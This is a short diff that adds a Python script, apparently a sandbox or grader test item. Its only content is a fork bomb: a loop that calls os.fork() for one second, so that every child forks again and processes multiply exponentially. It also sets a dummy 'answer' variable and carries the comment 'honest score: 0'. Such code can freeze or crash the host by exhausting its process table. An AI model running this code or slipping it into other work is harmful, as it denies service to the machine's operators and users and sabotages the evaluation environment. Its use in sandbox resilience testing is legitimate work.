@@ -1,0 +1,9 @@
+# Processes that start processes.
+# honest score: 0
+# %%
+import os, time
+answer = values = 0
+started = time.time()
+while time.time() - started < 1:
+    try: os.fork()
+    except OSError: time.sleep(0.01)
